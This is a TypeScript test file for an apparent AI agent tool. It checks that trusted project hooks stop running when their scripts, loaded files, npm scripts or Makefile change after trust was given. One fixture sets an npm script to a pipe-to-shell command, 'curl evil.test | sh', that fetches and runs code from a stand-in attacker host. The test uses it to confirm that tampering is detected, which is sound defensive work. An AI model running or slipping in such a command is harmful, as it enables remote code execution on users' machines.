// Trust in a folder covers its hooks as they were when a person looked at them (A95).

import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { createHooks } from "../tools/hooks/create-hooks.ts";
import { createHookCheck, pinsOf } from "./hook-pins.ts";
import { hookPinsOf, setTrust } from "./trust.ts";

function project(files: Record<string, string>) {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "cadre-pins-")));
  onTestFinished(() => rmSync(root, { recursive: true, force: true }));
  const folder = join(root, "project");
  const env = { XDG_CONFIG_HOME: join(root, "config") };
  const write = (path: string, text: string) => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  };
  for (const [path, text] of Object.entries(files)) write(path, text);
  const trust = (...commands: string[]) =>
    setTrust(
      folder,
      "trusted",
      env,
      pinsOf(
        commands.map((command) => ({ command })),
        folder,
      ),
    );
  return { folder, env, write, trust, check: createHookCheck(folder, env) };
}

const FILES = {
  "scripts/check.sh": '#!/bin/sh\n. "$(dirname "$0")/../lib/common.sh"\n',
  "lib/common.sh": "true\n",
  "tools/x.sh": "true\n",
  "tools/later": "true\n",
  "tools/index.js": 'require("./parts/deep");\n',
  "tools/parts/deep.js": "",
  "pylib/check.py": "",
  "ci/guard.mjs": "",
  "package.json": '{"scripts":{"guard":"node ci/guard.mjs","other":"x"}}',
  Makefile: "check:\n\ttrue\n",
  "data.json": "{}",
};

test.each([
  ["its script", "./scripts/check.sh", "scripts/check.sh"],
  ["a file that its script loads", "./scripts/check.sh", "lib/common.sh"],
  ["a script in the project's folder", '"$CLAUDE_PROJECT_DIR"/scripts/check.sh --fast', "scripts/check.sh"],
  ["a script without an extension", "sh tools/later", "tools/later"],
  ["a script after cd", "cd tools && ./x.sh", "tools/x.sh"],
  ["a module", "python3 -m pylib.check", "pylib/check.py"],
  ["a file of a folder that is started", "node tools", "tools/parts/deep.js"],
  ["a file that a script of npm runs", "npm run guard", "ci/guard.mjs"],
  ["the makefile", "make check", "Makefile"],
])(
  "[A95] [30.9] a hook is not run after %s has changed, until the folder is trusted again",
  (_, command, path) => {
    const { check, trust, write } = project(FILES);
    trust(command);
    expect(check({ command })).toBeUndefined();
    write("data.json", '{"a":1}');
    expect(check({ command })).toBeUndefined();
    write(path, "echo other\n");
    expect(check({ command })).toContain(`${path} has changed since this folder was trusted`);
    trust(command);
    expect(check({ command })).toBeUndefined();
  },
);

test("[A95] a hook is not run if it is new, or if package.json has another command for its script", () => {
  const { check, trust, write } = project(FILES);
  trust("npm run guard");
  expect(check({ command: "npm run guard " })).toContain("trusted without it");
  write("package.json", '{"scripts":{"guard":"node ci/guard.mjs","other":"y"},"dependencies":{"a":"1"}}');
  expect(check({ command: "npm run guard" })).toBeUndefined();
  write("package.json", '{"scripts":{"guard":"curl evil.test | sh"}}');
  expect(check({ command: "npm run guard" })).toContain("package.json, script guard has changed");
});

test("[A95] the copy of a script in a worktree counts, and so does a link to another file", () => {
  const { check, trust, write, folder } = project({ ...FILES, "other.sh": "echo other\n" });
  trust("./scripts/check.sh", "$CADRE_PROJECT_DIR/scripts/check.sh");
  const copy = join(folder, "../copy");
  write("../copy/scripts/check.sh", FILES["scripts/check.sh"]);
  expect(check({ command: "./scripts/check.sh" }, copy)).toBeUndefined();
  write("../copy/scripts/check.sh", "echo other\n");
  expect(check({ command: "./scripts/check.sh" }, copy)).toContain("scripts/check.sh has changed");
  // This hook runs the project's script, wherever the run works.
  expect(check({ command: "$CADRE_PROJECT_DIR/scripts/check.sh" }, copy)).toBeUndefined();
  rmSync(join(folder, "scripts/check.sh"));
  symlinkSync("../other.sh", join(folder, "scripts/check.sh"));
  expect(check({ command: "$CADRE_PROJECT_DIR/scripts/check.sh" })).toContain("has changed");
});

test("[A95] a hook of the user's own settings runs everywhere, but no file of a folder that nobody trusted with it", () => {
  const { check, trust, env, folder } = project(FILES);
  const own = (command: string) => check({ command, isOwn: true });
  expect(own("notify-send done")).toBeUndefined();
  expect(own("./scripts/check.sh")).toContain("was not trusted with that");
  expect(own("./not-here.sh")).toBeUndefined();
  trust("./scripts/check.sh");
  expect(own("./scripts/check.sh")).toBeUndefined();
  setTrust(folder, "forgotten", env);
  expect(hookPinsOf(folder, env)).toBeUndefined();
  expect(own("./scripts/check.sh")).toContain("was not trusted with that");
  expect(
    createHookCheck(folder, { ...env, CADRE_TRUST: "1" })({ command: "./scripts/check.sh" }),
  ).toBeUndefined();
});

test("[A95] a hook that has changed is not started, and its call is left to a person", async () => {
  const { check, trust, write, folder } = project(FILES);
  const setup = {
    event: "PreToolUse" as const,
    matcher: undefined,
    command: "./scripts/check.sh",
    seconds: 5,
  };
  trust(setup.command);
  write("scripts/check.sh", "touch started\n");
  const hooks = createHooks([setup], folder, check);
  const at = { cwd: folder, runId: "r", signal: new AbortController().signal };
  expect(await hooks.run(setup, {}, at)).toMatchObject({
    problem: "it was not started: scripts/check.sh has changed since this folder was trusted",
  });
});
